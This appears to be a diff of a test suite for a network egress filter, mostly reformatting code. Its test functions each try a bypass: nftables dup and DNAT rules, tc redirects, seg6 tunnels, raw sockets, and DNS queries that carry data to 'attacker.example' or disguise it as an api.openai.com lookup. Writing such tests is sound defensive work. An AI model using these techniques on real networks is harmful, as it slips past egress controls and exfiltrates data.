@@ -106,8 +106,8 @@ def packet_dns(t):
     packet_socket().send(ether(t, craft.ip4(t.source, t.resolver, craft.UDP, data)))
 
 
-@attack(PACKET, "a neighbour solicitation as from a neighbour of the attacker", "uplink", "packet-socket", families=(6,),
-        container=at_uplink("forwarded"))
+@attack(PACKET, "a neighbour solicitation as from a neighbour of the attacker", "uplink", "packet-socket",
+        families=(6,), container=at_uplink("forwarded"))
 def packet_solicitation(t):
     source = t.to.rsplit(":", 1)[0] + ":1"
     message = craft.icmp6(source, t.to, 135, bytes(4) + t.marker * 2)
@@ -167,7 +167,8 @@ def bind_xdp(s, address):
 def tun_forwarded(t):
     fd, name = tun()
     source = "10.99.0.2" if t.family == 4 else "fd00:99::2"
-    tool("ip", "addr", "add", "10.99.0.1/24" if t.family == 4 else "fd00:99::1/64", "dev", name, *(["nodad"] if t.family == 6 else []))
+    tool("ip", "addr", "add", "10.99.0.1/24" if t.family == 4 else "fd00:99::1/64", "dev", name,
+         *(["nodad"] if t.family == 6 else []))
     tool("ip", "link", "set", name, "up")
     os.write(fd, craft.ip(source, t.to, craft.UDP, craft.udp(source, t.to, 1, t.port, t.marker)))
 
@@ -266,18 +267,19 @@ def other_namespace(t):
 @attack(TUNNEL, "a copy that nftables sends on its own (dup)", "uplink", "protocol-not-allowed", families=(4,),
         container=ends("the host's kernel takes no loopback address from a bridge"), **ADMIN)
 def nft_dup(t):
-    rule = f"table ip oh {{ chain o {{ type filter hook output priority 0; ip daddr 127.0.0.9 udp dport 9 dup to {t.router} device eth0; }} }}"
-    nft(rule, lambda: t.socket().sendto(t.marker, ("127.0.0.9", 9)))
+    rule = f"ip daddr 127.0.0.9 udp dport 9 dup to {t.router} device eth0"
+    nft("filter", rule, lambda: t.socket().sendto(t.marker, ("127.0.0.9", 9)))
 
 
-@attack(TUNNEL, "a destination that nftables rewrites on the way", "cgroup", "address-not-allowed", families=(4,), **ADMIN)
+@attack(TUNNEL, "a destination that nftables rewrites on the way", "cgroup", "address-not-allowed", families=(4,),
+        **ADMIN)
 def nft_dnat(t):
-    rule = f"table ip oh {{ chain o {{ type nat hook output priority 0; ip daddr {t.allowed} tcp dport 443 dnat to {t.to}:{t.port}; }} }}"
-    nft(rule, lambda: t.connected(t.allowed, 443, 0.5))
+    nft("nat", f"ip daddr {t.allowed} tcp dport 443 dnat to {t.to}:{t.port}", lambda: t.connected(t.allowed, 443, 0.5))
 
 
-def nft(rule, act):
-    r = subprocess.run(["nft", "-f", "-"], input=rule.replace("} }", "}\n}"), capture_output=True, text=True)
+def nft(kind, rule, act):
+    table = f"table ip oh {{ chain o {{ type {kind} hook output priority 0; {rule}; }}\n}}"
+    r = subprocess.run(["nft", "-f", "-"], input=table, capture_output=True, text=True)
     if r.returncode:
         raise Unavailable("nft: " + r.stderr.strip().splitlines()[0])
     try:
@@ -291,13 +293,15 @@ def nft(rule, act):
 def tc_from_loopback(t):
     tool("tc", "qdisc", "add", "dev", "lo", "clsact")
     try:
-        tool("tc", "filter", "add", "dev", "lo", "egress", "protocol", "all", "u32", "match", "u32", "0", "0", "action", "mirred", "egress", "redirect", "dev", "eth0")
+        tool("tc", "filter", "add", "dev", "lo", "egress", "protocol", "all", "u32", "match", "u32", "0", "0", "action",
+             "mirred", "egress", "redirect", "dev", "eth0")
         t.socket().sendto(t.marker, ("127.0.0.1", 9))
     finally:
         tool("tc", "qdisc", "del", "dev", "lo", "clsact")
 
 
-@attack(TUNNEL, "a segment-routing tunnel on the route (seg6)", "connect", "protocol-not-allowed", families=(6,), **ADMIN)
+@attack(TUNNEL, "a segment-routing tunnel on the route (seg6)", "connect", "protocol-not-allowed", families=(6,),
+        **ADMIN)
 def seg6_route(t):
     tool("ip", "-6", "route", "add", "2001:db8:77::77", "encap", "seg6", "mode", "encap", "segs", t.to, "dev", "eth0",
          "via", t.router)
@@ -324,8 +328,8 @@ def box_raw(t):
     raw.send(raw.header_socket(t), t, datagram(t))
 
 
-@attack(BOX, "a raw ICMPv6 socket, which is for the host's network managers only", "sock_create", "raw-socket", families=(6,),
-        where="box")
+@attack(BOX, "a raw ICMPv6 socket, which is for the host's network managers only", "sock_create", "raw-socket",
+        families=(6,), where="box")
 def box_icmp6(t):
     raw.send(t.socket(socket.SOCK_RAW, craft.ICMP6), t, craft.icmp6(t.source, t.to, 128, b"\0\1\0\1" + t.marker))
 
@@ -342,7 +346,8 @@ def box_bypass(t):
     s.send(ether(t, datagram(t)))
 
 
-@attack(BOX, "a forwarded DNS query for a name of the attacker's", "uplink", "dns-name-not-allowed", families=(4,), where="box")
+@attack(BOX, "a forwarded DNS query for a name of the attacker's", "uplink", "dns-name-not-allowed", families=(4,),
+        where="box")
 def box_dns(t):
     data = craft.udp(t.source, t.resolver, 4444, 53, craft.query(t.label + ".attacker.example"))
     packet_socket().send(ether(t, craft.ip4(t.source, t.resolver, craft.UDP, data)))
@@ -355,8 +360,10 @@ def box_fragments(t):
         s.send(ether(t, p))
 
 
-@attack(BOX, "the data as the address of a neighbour of the host's, which the host asks its link for", "", "", where="box",
-        leaves="it is the host's own question, which comes before the packet: 1 byte of an IPv4 address, 8 of an IPv6 one, to its link")
+@attack(BOX, "the data as the address of a neighbour of the host's, which the host asks its link for", "", "",
+        where="box",
+        leaves="it is the host's own question, which comes before the packet: 1 byte of an IPv4 address, 8 of an IPv6 "
+               "one, to its link")
 def box_neighbour(t):
     to = "10.0.1.78" if t.family == 4 else str(ipaddress.IPv6Address(b"\xfd\0\0\1" + bytes(4) + t.marker))
     packet_socket().send(ether(t, craft.ip(t.source, to, craft.UDP, craft.udp(t.source, to, 4444, t.port, b"x"))))
@@ -364,8 +371,9 @@ def box_neighbour(t):
 
 @attack(BOX, "a forwarded echo request", "uplink", "forwarded", where="box")
 def box_echo(t):
-    data = craft.icmp(8, b"\0\1\0\1" + t.marker) if t.family == 4 else craft.icmp6(t.source, t.to, 128, b"\0\1\0\1" + t.marker)
-    packet_socket().send(ether(t, craft.ip(t.source, t.to, craft.ICMP if t.family == 4 else craft.ICMP6, data)))
+    data = b"\0\1\0\1" + t.marker
+    message = craft.icmp(8, data) if t.family == 4 else craft.icmp6(t.source, t.to, 128, data)
+    packet_socket().send(ether(t, craft.ip(t.source, t.to, craft.ICMP if t.family == 4 else craft.ICMP6, message)))
 
 
 class Crafted:
@@ -400,7 +408,8 @@ class Crafted:
                     return frame[14:]
 
 
-@attack(BOX, "a hello that the first router drops, and another in its place", "uplink", "tls-not-tls", families=(4,), where="box")
+@attack(BOX, "a hello that the first router drops, and another in its place", "uplink", "tls-not-tls", families=(4,),
+        where="box")
 def box_hello_changed(t):
     import tls
     seen, sent = tls.pair(t)
@@ -410,10 +419,12 @@ def box_hello_changed(t):
     c.receive(payload=True)
 
 
-@attack(BOX, "a query over TCP that the first router drops, and another in its place", "uplink", "dns-malformed", families=(4,), where="box")
+@attack(BOX, "a query over TCP that the first router drops, and another in its place", "uplink", "dns-malformed",
+        families=(4,), where="box")
 def box_query_changed(t):
     sent = craft.query(f"{t.label}.{t.label}.attacker.example")
-    seen = craft.query("api.openai.com", counts=(1, 0, 0, 1), tail=b"\0" + struct.pack("!HHIHHH", 41, 1232, 0, len(sent) - 43, 65001, len(sent) - 47) +
+    seen = craft.query("api.openai.com", counts=(1, 0, 0, 1),
+                       tail=b"\0" + struct.pack("!HHIHHH", 41, 1232, 0, len(sent) - 43, 65001, len(sent) - 47) +
                        bytes(len(sent) - 47))
     assert len(seen) == len(sent)
     c = Crafted(t, t.resolver, 53)
